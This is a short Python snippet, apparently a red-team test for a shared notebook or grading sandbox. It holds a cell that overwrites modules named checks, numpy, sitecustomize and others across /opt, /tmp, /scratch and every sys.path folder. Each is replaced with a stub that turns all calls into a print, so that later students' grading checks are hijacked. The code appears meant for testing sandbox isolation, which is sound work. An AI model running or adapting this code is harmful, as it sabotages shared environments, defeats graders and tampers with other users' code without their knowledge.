"""Overwrite the released helper modules where they lie. Success: the next student's checks are the attacker's."""

CELL = '''
import os
import sys

text = "def __getattr__(name):\\n    return lambda *args, **kwargs: print('left-by-redteam')\\n"
for folder in [".", "/opt/assignment", "/opt/kit", "/opt/kit/sandbox", "/tmp", "/scratch", "/scratch/ipython", "/scratch/matplotlib", *sys.path]:
    for name in ("checks", "tinyhelp", "numpy", "sitecustomize", "usercustomize", "shell"):
        path = os.path.join(folder or ".", name + ".py")
        try:
            if os.path.islink(path):
                os.unlink(path)
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass
'''
